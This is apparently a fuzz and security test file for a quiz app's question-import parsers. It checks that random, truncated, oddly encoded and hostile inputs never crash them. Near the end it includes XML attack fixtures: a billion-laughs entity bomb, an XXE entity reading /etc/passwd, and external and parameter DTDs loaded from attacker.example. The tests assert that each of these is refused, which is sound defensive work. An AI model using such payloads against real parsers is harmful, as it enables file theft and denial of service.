"""No input crashes or hangs a parser: random bytes, cut-off files, hostile XML, odd encodings.

The parsers are called directly (not only through parse_bytes, whose last-resort guard would
hide a crash) so that any exception fails the test.
"""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quizapp.core.formats import parse_bytes
from quizapp.core.formats.aiken import parse_aiken
from quizapp.core.formats.base import ParseResult
from quizapp.core.formats.csv_format import parse_csv
from quizapp.core.formats.detect import detect_format
from quizapp.core.formats.gift import parse_gift
from quizapp.core.formats.json_format import parse_json
from quizapp.core.formats.limits import MAX_XML_DEPTH
from quizapp.core.formats.moodle_xml import parse_moodle_xml

DATA = Path(__file__).parents[2] / "data" / "formats"
PARSERS = {
    "gift": parse_gift,
    "aiken": parse_aiken,
    "moodle-xml": parse_moodle_xml,
    "csv": lambda text: parse_csv(text, DATA),
    "json": parse_json,
}
SAMPLES = {
    "gift": "vitals.gift",
    "aiken": "phlebotomy_aiken.txt",
    "moodle-xml": "hipaa_moodle.xml",
    "csv": "infection_control.csv",
    "json": "question_set.json",
}
GUARD_MESSAGE = "please report the file"
FAST = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def sample_text(fmt: str) -> str:
    return (DATA / SAMPLES[fmt]).read_text(encoding="utf-8")


def assert_well_formed(result: ParseResult) -> None:
    assert isinstance(result, ParseResult)
    for problem in [*result.errors, *result.skipped]:
        assert isinstance(problem.message, str) and problem.message
        assert problem.line is None or problem.line >= 1
        assert GUARD_MESSAGE not in problem.message
        assert "Traceback" not in problem.message and "Error(" not in problem.message


SPECIALS = st.sampled_from(
    list("{}=~#:\\<>&\"';,|\n\r\t%$/[]!?") + ["::", "->", "####", "ANSWER:", "A.", "<![CDATA[",
     "]]>", "</question>", "<question type=\"multichoice\">", "\u0000", "\ufeff", "\ue001"]
)


@FAST
@given(data=st.binary(max_size=2000), fmt=st.sampled_from([None, *PARSERS]))
def test_random_bytes_never_crash(data, fmt):
    _, result = parse_bytes(data, fmt, "upload.txt")
    assert_well_formed(result)


@FAST
@given(text=st.text(max_size=800), fmt=st.sampled_from(list(PARSERS)))
def test_random_text_never_crashes_a_parser(text, fmt):
    assert_well_formed(PARSERS[fmt](text))
    assert detect_format(text, None) in (None, *PARSERS)


@FAST
@given(fmt=st.sampled_from(list(PARSERS)), cut=st.floats(min_value=0, max_value=1))
def test_truncated_files_never_crash(fmt, cut):
    text = sample_text(fmt)
    assert_well_formed(PARSERS[fmt](text[: int(len(text) * cut)]))
    data = text.encode("utf-8")
    _, result = parse_bytes(data[: int(len(data) * cut)], fmt, str(DATA / "x"))
    assert_well_formed(result)


@FAST
@given(
    fmt=st.sampled_from(list(PARSERS)),
    edits=st.lists(st.tuples(st.floats(0, 1), SPECIALS), min_size=1, max_size=8),
)
def test_files_with_stray_special_characters_never_crash(fmt, edits):
    text = sample_text(fmt)
    for where, insert in edits:
        at = int(len(text) * where)
        text = text[:at] + insert + text[at:]
    assert_well_formed(PARSERS[fmt](text))


@FAST
@given(
    fmt=st.sampled_from(list(PARSERS)),
    encoding=st.sampled_from(
        ["utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "shift_jis", "koi8-r",
         "mac-roman", "latin-1", "gb18030", "utf-8-sig"]
    ),
)
def test_absurd_encodings_never_crash(fmt, encoding):
    data = sample_text(fmt).encode(encoding, errors="replace")
    _, result = parse_bytes(data, None, "upload.dat")
    assert_well_formed(result)
    _, result = parse_bytes(data, fmt, "upload.dat")
    assert_well_formed(result)


@FAST
@given(name=st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_.:", min_size=1, max_size=30))
def test_any_declared_xml_encoding_is_handled(name):
    # The \xe9 is not UTF-8, so the declared encoding is what decides.
    data = f'<?xml version="1.0" encoding="{name}"?>\n<quiz>\xe9</quiz>'.encode("latin-1")
    _, result = parse_bytes(data, None, "quiz.xml")
    assert_well_formed(result)


# --- hostile XML: fixed cases ------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><questiontext><text>&secret;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">
<quiz></quiz>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<quiz></quiz>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(text):
    result = parse_moodle_xml(text)
    assert result.items == []
    assert [p.line for p in result.errors] == [2]
    assert "DTD" in result.errors[0].message
    assert "root:" not in repr(result)


def test_undeclared_entity_reference_is_a_plain_error():
    result = parse_moodle_xml("<quiz>\n<question>&ghost;</question></quiz>")
    assert result.errors[0].line == 2 and "entity" in result.errors[0].message


def test_deeply_nested_xml_stops_at_the_depth_limit():
    depth = 200_000
    result = parse_moodle_xml("<quiz>" + "<a>" * depth + "</a>" * depth + "</quiz>")
    message = result.errors[0].message
    assert message.startswith(f"elements are nested more than {MAX_XML_DEPTH} deep")


def test_deep_nesting_inside_a_question():
    depth = 50_000
    text = '<quiz><question type="multichoice"><questiontext><text>' + "<b>" * depth
    result = parse_moodle_xml(text + "</b>" * depth + "</text></questiontext></question></quiz>")
    assert "nested more than" in result.errors[0].message


def test_question_with_a_huge_number_of_elements():
    answers = '<answer fraction="0"><text>x</text></answer>' * 3000
    result = parse_moodle_xml(f'<quiz>\n<question type="multichoice">{answers}</question></quiz>')
    assert result.errors[0].line == 2
    assert "more than 5,000 XML elements" in result.errors[0].message


def test_huge_text_node_is_read_whole_then_refused_by_the_length_limit():
    stem = "vital signs " * 400_000  # about 4.8 MB in one element
    text = (
        '<quiz><question type="truefalse"><questiontext format="plain_text"><text>' + stem
        + '</text></questiontext><answer fraction="100"><text>true</text></answer>'
        '<answer fraction="0"><text>false</text></answer></question></quiz>'
    )
    result = parse_moodle_xml(text)
    assert result.items == []
    assert f"the question text is {len(stem.strip()):,} characters long" in result.errors[0].message


def test_wide_xml_outside_questions_is_not_kept():
    result = parse_moodle_xml("<quiz>" + "<junk/>" * 200_000 + "</quiz>")
    assert result.items == [] and result.errors == []


def test_utf16_xml_with_bom_and_declaration():
    text = '<?xml version="1.0" encoding="UTF-16"?>\n' + sample_text("moodle-xml").split("\n", 1)[1]
    fmt, result = parse_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"), None, "q.xml")
    assert fmt == "moodle-xml" and len(result.items) == 3
